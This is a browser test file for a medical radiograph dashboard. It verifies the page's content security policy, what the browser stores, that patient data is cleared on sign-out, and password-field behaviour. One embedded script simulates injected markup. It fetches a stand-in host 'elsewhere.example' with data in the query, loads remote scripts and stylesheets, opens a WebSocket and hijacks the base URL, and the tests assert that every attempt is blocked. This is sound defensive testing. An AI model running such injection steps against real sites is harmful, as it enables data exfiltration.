"""What a browser lets the dashboard's page do, and what it keeps of it."""

import json

import pytest
from browsing import ANALYSIS_LIMIT_MS, SCREEN, sign_in, upload, wait_until_still, write_png

pytestmark = [pytest.mark.browser, pytest.mark.slow]

_OF_STREAMLIT = ("stActiveTheme-", "stSidebarSectionsState-")  # light, and which menus are open

# What a page could do if somebody managed to write markup into it.
_TRIES = """async (own) => {
  const violated = new Set();
  document.addEventListener("securitypolicyviolation", (event) => {
    violated.add(event.effectiveDirective);
  });
  const wait = (element, name) => new Promise((done) => {
    element.onload = () => done(`${name} was loaded`);
    element.onerror = () => done(null);
  });
  const add = (name, attributes) => {
    const element = Object.assign(document.createElement(name), attributes);
    const waited = wait(element, name);
    document.body.append(element);
    return waited;
  };
  const done = await Promise.all([
    fetch("https://elsewhere.example/take?what=told").then(() => "fetched", () => null),
    add("script", { src: "https://elsewhere.example/a.js" }),
    add("img", { src: "https://elsewhere.example/a.png" }),
    add("link", { rel: "stylesheet", href: "https://elsewhere.example/a.css" }),
  ]);
  try {
    new WebSocket("wss://elsewhere.example/");
  } catch { /* some browsers throw */ }
  const frame = document.createElement("iframe");
  frame.src = own;
  document.body.append(frame);
  const base = document.createElement("base");
  base.href = "https://elsewhere.example/";
  document.head.append(base);
  await new Promise((later) => setTimeout(later, 1000));
  frame.remove();
  return {
    done: done.filter((one) => one !== null),
    violated: [...violated].sort(),
    isBased: document.baseURI.includes("elsewhere"),
  };
}"""


@pytest.fixture
def page(browser, workspace, serve, tmp_path):
    """Return a page that may complain: what it is kept from is told on its console."""
    with serve(workspace, tmp_path / "log") as dashboard:
        page = browser.new_page(viewport=SCREEN)
        page.goto(f"{dashboard.url}clinical-analysis")
        yield page
        page.close()


def test_what_gets_into_the_page_reaches_no_other_host(page):
    sign_in(page)
    page.get_by_text("Open a frontal chest radiograph").first.wait_for()
    asked, kept_back = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda r: kept_back.append(r.url) if r.failure == "csp" else None)

    found = page.evaluate(_TRIES, page.url)

    assert found["done"] == []
    assert found["isBased"] is False
    assert {"base-uri", "connect-src", "img-src", "frame-src"} <= set(found["violated"])
    assert {"script-src-elem", "style-src-elem"} <= set(found["violated"])
    assert [url for url in asked if "elsewhere" in url and url not in kept_back] == []


def test_a_browser_keeps_language_and_light_and_nothing_of_a_patient(page, tmp_path):
    sign_in(page)
    upload(page, write_png(tmp_path / "Doe_Jane_1970.png"))
    page.locator(".cxr-card").first.wait_for(timeout=ANALYSIS_LIMIT_MS)

    kept = page.evaluate(
        """async () => ({
          local: { ...localStorage },
          session: { ...sessionStorage },
          databases: (await indexedDB.databases()).map((one) => one.name),
          caches: await caches.keys(),
          cookies: document.cookie,
          address: location.href,
        })"""
    )
    cookies = page.context.cookies()

    assert [name for name in kept["local"] if not name.startswith(_OF_STREAMLIT)] == []
    assert kept["databases"] == []
    assert kept["caches"] == []
    assert "Doe" not in json.dumps(kept)
    assert "?" not in kept["address"]
    assert all(one["sameSite"] in {"Strict", "Lax"} for one in cookies)
    assert {one["name"] for one in cookies} <= {
        "_streamlit_xsrf",
        "medcxr_browser",
        "medcxr_language",
        "medcxr_theme",
    }


def test_after_signing_out_nothing_of_the_radiograph_is_left_on_the_page(page, tmp_path):
    sign_in(page)
    upload(page, write_png(tmp_path / "Doe_Jane_1970.png"))
    page.locator(".cxr-card").first.wait_for(timeout=ANALYSIS_LIMIT_MS)
    assert "Doe_Jane" in page.content()

    page.get_by_role("button", name="Sign out").click()
    page.get_by_label("Password", exact=True).wait_for()
    # What was still being drawn may ask for one more run, at whose end the page is cleared.
    page.wait_for_function("() => !document.documentElement.outerHTML.includes('Doe_Jane')")
    wait_until_still(page)

    assert "Doe_Jane" not in page.content()
    assert page.locator(".cxr-card").count() == 0
    assert page.locator("canvas").count() == 0


def test_a_password_is_typed_unseen_and_can_be_pasted_and_filled_in(page):
    field = page.get_by_label("Password", exact=True)

    field.wait_for()
    assert field.get_attribute("type") == "password"
    assert field.get_attribute("autocomplete") == "current-password"
    page.evaluate(
        """() => document.querySelector("input[type=password]").addEventListener(
          "paste", (event) => { window.wasPrevented = event.defaultPrevented; })"""
    )
    field.focus()
    page.evaluate(
        """() => document.querySelector("input[type=password]").dispatchEvent(
          new ClipboardEvent("paste", { bubbles: true, cancelable: true }))"""
    )
    assert page.evaluate("() => window.wasPrevented") is False
